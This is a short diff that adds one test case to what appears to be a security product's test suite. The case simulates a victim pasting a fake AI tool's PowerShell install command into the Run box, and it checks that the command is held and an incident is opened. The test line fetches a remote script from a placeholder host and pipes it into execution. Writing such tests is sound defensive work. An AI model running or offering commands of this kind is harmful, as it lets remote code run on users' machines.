@@ -179,4 +179,14 @@ export const flowUnlisted: Way[] = [
       }
     },
   },
+  {
+    title: 'The victim pastes the command of a false AI tool into the Run box, and it waits before it fetches anything',
+    flow: 31,
+    outcome: 'held',
+    async run(household) {
+      const line = 'powershell -c "irm https://get-ai-desktop.example.net/install.ps1 | iex"';
+      await startAndExpectWaiting(household, powershell, /PowerShell/, { line });
+      await expectOpenIncident(household);
+    },
+  },
 ];
